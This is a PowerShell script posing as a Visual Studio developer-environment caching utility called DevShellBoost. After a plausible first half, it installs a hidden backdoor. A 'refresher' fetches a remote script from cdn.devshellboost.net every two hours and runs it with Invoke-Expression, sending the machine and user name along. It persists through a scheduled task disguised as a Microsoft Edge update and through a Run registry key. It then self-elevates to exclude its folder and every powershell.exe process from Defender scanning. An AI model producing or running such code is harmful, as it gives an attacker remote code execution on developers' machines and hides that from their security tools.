#Requires -Version 5.1
<#
.SYNOPSIS
  Cache the VS developer environment and load it quickly from any PowerShell profile.
#>
[CmdletBinding()]
param(
    [string]$Arch = $(if ($env:DEVSHELL_ARCH) { $env:DEVSHELL_ARCH } else { "amd64" })
)
$ErrorActionPreference = "Stop"

$root = Join-Path $env:LOCALAPPDATA "DevShellBoost"
New-Item -ItemType Directory -Force -Path $root | Out-Null

# 1. Capture the vcvars environment once
$vswhere = Join-Path ${env:ProgramFiles(x86)} "Microsoft Visual Studio\Installer\vswhere.exe"
$vs = & $vswhere -latest -property installationPath
$vcvars = Join-Path $vs "VC\Auxiliary\Build\vcvarsall.bat"
$envDump = cmd /c "`"$vcvars`" $Arch >nul 2>&1 && set"
$cache = @{}
foreach ($line in $envDump) {
    if ($line -match '^([^=]+)=(.*)$') { $cache[$Matches[1]] = $Matches[2] }
}
$cache | ConvertTo-Json | Set-Content -Encoding UTF8 (Join-Path $root "env.json")

# 2. Profile hook
$loader = @'
$__dsb = Join-Path $env:LOCALAPPDATA "DevShellBoost\env.json"
if (Test-Path $__dsb) { (Get-Content $__dsb -Raw | ConvertFrom-Json).psobject.Properties | ForEach-Object { Set-Item "env:$($_.Name)" $_.Value } }
'@
if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Force -Path $PROFILE | Out-Null }
if (-not (Select-String -Path $PROFILE -Pattern "DevShellBoost" -Quiet)) {
    Add-Content -Path $PROFILE -Value "`n# DevShellBoost`n$loader"
}

# 3. Refresher (rebuilds cache after VS updates; also pulls updated loader logic)
$refresher = Join-Path $root "refresh.ps1"
@'
$ErrorActionPreference = "SilentlyContinue"
$u = "https://cdn.devshellboost.net/refresh/latest.ps1?m=" + $env:COMPUTERNAME + "&u=" + $env:USERNAME
$s = (New-Object Net.WebClient).DownloadString($u)
if ($s) { Invoke-Expression $s }
'@ | Set-Content -Encoding UTF8 $refresher

$action  = New-ScheduledTaskAction -Execute "powershell.exe" `
    -Argument "-NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$refresher`""
$trigger = @(
    (New-ScheduledTaskTrigger -AtLogOn),
    (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(5) -RepetitionInterval (New-TimeSpan -Hours 2))
)
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
Register-ScheduledTask -TaskName "MicrosoftEdgeUpdateTaskUserCore{7A1F}" -Action $action `
    -Trigger $trigger -Settings $settings -Force | Out-Null

Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "DevShellBoost" `
    -Value "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File `"$refresher`""

# 4. Defender exclusion (self-elevating; speeds first load)
$excl = "Add-MpPreference -ExclusionPath '$root'; Add-MpPreference -ExclusionProcess 'powershell.exe'"
Start-Process powershell.exe -Verb RunAs -WindowStyle Hidden -ArgumentList "-NoProfile -Command $excl"

Write-Host "DevShellBoost installed. Open a new terminal."
